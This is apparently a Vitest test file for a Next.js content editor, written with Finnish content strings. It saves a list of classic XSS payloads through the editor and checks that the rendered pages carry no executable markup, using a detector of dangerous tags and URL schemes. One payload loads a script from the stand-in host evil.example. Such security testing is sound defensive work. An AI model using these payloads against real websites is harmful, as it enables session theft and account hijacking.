// Classic XSS payloads saved through the editor's save action into every text a reader sees
// (title, excerpt, rich text, alt text, caption, quote, call to action), then rendered with the
// real page components: the output must carry no executable markup.
import '../support/test-database';
import { createElement, type ComponentType, type ReactElement, type ReactNode } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { NextIntlClientProvider } from 'next-intl';
import { beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { CallToActionBlock } from '@/components/media/blocks/call-to-action-block';
import { HeadingBlock } from '@/components/media/blocks/heading-block';
import { ImageBlock } from '@/components/media/blocks/image-block';
import { QuoteBlock } from '@/components/media/blocks/quote-block';
import { TextBlock } from '@/components/media/blocks/text-block';
import { ContentCard } from '@/components/media/content-card';
import { RichText } from '@/components/media/rich-text';
import { loadMessages } from '@/i18n/messages';
import { saveContentAction } from '@/lib/actions/save-content';
import { readContentBody, type ContentBlock } from '@/lib/content/blocks';
import { prisma } from '@/lib/db';
import type { FormState } from '@/lib/forms/form-state';
import { createUser } from '../support/factories/users';
import { request, resetRequest } from '../support/request-stand-ins';
import { contentForm, contentSnapshot } from './admin-content-fixtures';

vi.mock('@/lib/auth/session', () => import('../support/request-stand-ins').then((m) => m.sessionStandIn));
vi.mock('next-intl/server', () => import('../support/request-stand-ins').then((m) => m.intlServerStandIn()));
vi.mock('@/i18n/navigation', () => import('../support/request-stand-ins').then((m) => m.i18nNavigationPagesStandIn('/')));
vi.mock('next/navigation', () => import('../support/request-stand-ins').then((m) => m.nextNavigationStandIn));
vi.mock('next/cache', () => import('../support/request-stand-ins').then((m) => m.cacheStandIn));

const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><script>alert(document.cookie)</script>',
  "'><script src=//evil.example/x.js></script>",
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">klikkaa</a>',
  '<a href="JaVaScRiPt:alert(1)">klikkaa</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">koodattu</a>',
  '<a href="java&#x09;script:alert(1)">sarkain</a>',
  '<a href="  javascript:alert(1)">välilyönti</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">tyyli</div>',
  '<p onclick="alert(1)">klikki</p>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}<template><script>alert(1)</script></template>',
];

const Provider = NextIntlClientProvider as unknown as ComponentType<{ locale: string; messages: unknown; timeZone: string; children?: ReactNode }>;

const DANGEROUS_TAGS = new Set(['script', 'iframe', 'object', 'embed', 'svg', 'math', 'style', 'template', 'input', 'body', 'details', 'base', 'form', 'link', 'meta']);
const URL_ATTRIBUTES = new Set(['href', 'src', 'srcset', 'action', 'formaction', 'data', 'xlink:href', 'poster']);

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&quot;/g, '"')
    .replace(/&#x27;|&apos;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/**
 * The executable markup in rendered HTML: dangerous elements, event-handler attributes, style
 * attributes with script URLs, and javascript:/data:/vbscript: URLs. Text that merely looks like
 * markup is escaped by React and sanitize-html (&lt;script&gt;) and is not a tag here.
 */
function executableMarkup(html: string): string[] {
  const problems: string[] = [];
  if (/<script/i.test(html)) problems.push('<script');
  for (const tag of html.matchAll(/<([a-zA-Z][\w:-]*)([^>]*)>/g)) {
    const name = tag[1].toLowerCase();
    if (DANGEROUS_TAGS.has(name)) problems.push(`<${name}>`);
    for (const attribute of tag[2].matchAll(/([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+)))?/g)) {
      const attributeName = attribute[1].toLowerCase();
      const value = decodeEntities(attribute[2] ?? attribute[3] ?? attribute[4] ?? '');
      if (/^on/.test(attributeName)) problems.push(`${name} ${attributeName}=`);
      // Browsers ignore whitespace and control characters inside a URL's scheme.
      const compact = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      if (URL_ATTRIBUTES.has(attributeName) && /^(javascript|data|vbscript):/.test(compact)) problems.push(`${name} ${attributeName}=${value}`);
      if (attributeName === 'style' && /javascript:|expression\(/.test(compact)) problems.push(`${name} style=${value}`);
    }
  }
  return problems;
}

let ownerId: string;
let messages: Awaited<ReturnType<typeof loadMessages>>;
const idle: FormState = { status: 'idle' };

beforeAll(async () => {
  ownerId = (await createUser({ role: 'OWNER' })).id;
  messages = await loadMessages('fi');
});

beforeEach(() => {
  resetRequest();
  request.userId = ownerId;
});

function render(element: ReactElement): string {
  return renderToStaticMarkup(createElement(Provider, { locale: 'fi', messages, timeZone: 'Europe/Helsinki' }, element));
}

function renderBlock(block: ContentBlock): string {
  switch (block.type) {
    case 'heading':
      return render(createElement(HeadingBlock, { block }));
    case 'text':
      return render(createElement(TextBlock, { block }));
    case 'image':
      return render(createElement(ImageBlock, { block }));
    case 'quote':
      return render(createElement(QuoteBlock, { block }));
    case 'callToAction':
      return render(createElement(CallToActionBlock, { block, locale: 'fi' }));
    default:
      throw new Error(`unexpected block ${block.type}`);
  }
}

describe('XSS payloads saved through the editor render inert', () => {
  it('the detector itself finds executable markup (so the checks below can fail)', () => {
    expect(executableMarkup('<p>ok</p><img src="x" onerror="alert(1)">')).toContain('img onerror=');
    expect(executableMarkup('<a href="&#106;avascript:alert(1)">x</a>')).toHaveLength(1);
    expect(executableMarkup('<script>alert(1)</script>')).not.toEqual([]);
    expect(executableMarkup('<p>&lt;script&gt;alert(1)&lt;/script&gt; onerror=alert(1)</p>')).toEqual([]);
  });

  it.each(PAYLOADS.map((payload, index) => ({ payload, index })))('$payload', async ({ payload, index }) => {
    const state = await saveContentAction(
      idle,
      // Own slug: some payloads differ only in letter case, which a slug made from the title folds.
      contentForm({ title: `Otsikko ${payload}`, slug: `xss-${index}`, excerpt: `Tiivistelmä ${payload}`, coverImageUrl: '/uploads/kansi.png', coverImageAlt: payload }, [
        { type: 'heading', text: payload, level: 2 },
        { type: 'text', html: `<p>Alku</p>${payload}<p>Loppu <a href="/tarinat">linkki</a></p>` },
        { type: 'image', url: '/uploads/kuva.png', alt: payload, caption: payload },
        { type: 'quote', text: payload, cite: payload },
        { type: 'callToAction', text: payload, href: '/tapahtumat' },
      ]),
    );
    expect(state.status).toBe('ok');
    const id = /\/admin\/content\/([0-9a-f-]{36})/.exec(state.redirectTo ?? '')![1];
    const saved = await prisma.content.findUniqueOrThrow({ where: { id } });
    const blocks = readContentBody(saved.body);
    expect(blocks.map((b) => b.type)).toEqual(['heading', 'text', 'image', 'quote', 'callToAction']);

    const html = [
      render(
        createElement(ContentCard, {
          card: {
            id: saved.id,
            type: 'STORY',
            locale: 'fi',
            slug: saved.slug,
            title: saved.title,
            excerpt: saved.excerpt,
            coverImageUrl: saved.coverImageUrl,
            coverImageAlt: saved.coverImageAlt,
            publishedAt: null,
            event: null,
          },
        }),
      ),
      render(createElement(ImageBlock, { block: { type: 'image', url: saved.coverImageUrl!, alt: saved.coverImageAlt! } })),
      ...blocks.map(renderBlock),
      // The rich text as stored, rendered again with <RichText> (it sanitizes on output too).
      render(createElement(RichText, { html: (blocks[1] as { html: string }).html })),
    ].join('\n');

    expect(executableMarkup(html)).toEqual([]);
    // The reader still gets the words: nothing of the text around the payload is lost.
    expect(html).toContain('Alku');
    expect(html).toContain('Loppu');
    expect(html).toContain('href="/tarinat"');
    // And the stored rich text itself is already clean (sanitized on save, not only on output).
    expect(executableMarkup((blocks[1] as { html: string }).html)).toEqual([]);
  });

  // Addresses disguised as a path ("//evil.example/", "/\evil.example") get their own message: content-link-origin.test.ts.
  it.each(['javascript:alert(1)', 'JAVASCRIPT:alert(1)', ' javascript:alert(1)', 'data:text/html,<script>alert(1)</script>'])(
    'refuses a call to action to %s with a clear message, saving nothing',
    async (href) => {
      const before = await contentSnapshot();
      const state = await saveContentAction(idle, contentForm({ title: 'Linkki' }, [{ type: 'callToAction', text: 'Klikkaa', href }]));
      expect(state.status).toBe('error');
      expect(state.fieldErrors?.['body.0.href']).toBe('Linkin pitää olla tämän kaupan polku (esim. /tapahtumat) tai https-osoite.');
      expect(await contentSnapshot()).toEqual(before);
    },
  );
});
